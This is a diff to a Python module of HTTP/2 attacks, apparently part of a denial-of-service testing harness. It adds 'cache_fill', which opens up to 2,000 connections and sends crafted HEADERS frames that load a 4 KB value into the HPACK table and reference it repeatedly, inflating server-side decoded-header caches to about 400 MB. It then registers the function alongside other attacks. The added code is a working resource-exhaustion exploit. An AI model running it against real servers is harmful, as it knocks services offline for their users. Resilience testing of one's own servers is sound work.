@@ -876,6 +876,36 @@ def slow_readers(addr: str, budget: Budget, connections: int = 20, calls: int = 
     return Attack(budget, attack.peers, f"{drips} drips; {ended} answers ended")
 
 
+def cache_fill(addr: str, budget: Budget, connections: int = 2000, blocks: int = 16) -> Attack:
+    """(v) `connections` connections that each fill a server's cache of decoded header
+    blocks: one block puts a 4 KB value in the HPACK table, then `blocks` distinct small
+    blocks each refer to it three times (12 KB decoded from ~80 bytes), calls to an
+    unknown method, answered and left idle. A cache counted only by entries holds
+    ~200 KB per connection: 400 MB over 2,000 connections."""
+    raise_nofile(connections + 256)
+    attack = Attack(budget)
+    big = literal("x-a", "v" * 4000)
+    big = b"\x40" + big[1:]  # the same field, with incremental indexing: into the table
+    for _ in range(connections):
+        if budget.spent():
+            break
+        try:
+            peer = Peer(addr, budget, handshake=False)
+        except OSError as e:
+            attack.notes = f"connect failed: {e}; "
+            break
+        attack.peers.append(peer)
+        base = literals(request_headers(peer.authority, method("NoSuchMethod")))
+        batch = [frame(HEADERS, END_HEADERS | END_STREAM, 1, base + big)]
+        for n in range(blocks):
+            block = base + literal("x-n", str(n)) + b"\xbe" * 3  # index 62: the 4 KB value
+            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * n, block))
+        peer.send(b"".join(batch))
+        peer.drain()
+    attack.notes += f"{len(attack.peers)} connections, {blocks} cacheable blocks each"
+    return attack
+
+
 @dataclass(frozen=True)
 class Spec:
     run: Callable[[str, Budget], Attack]
@@ -906,4 +936,5 @@ ATTACKS: dict[str, Spec] = {
     "table_size_updates": Spec(table_size_updates, 64 * MB),
     "budget_fill": Spec(budget_fill, 64 * MB),
     "slow_readers": Spec(slow_readers, 8 * MB),
+    "cache_fill": Spec(cache_fill, 64 * MB),
 }
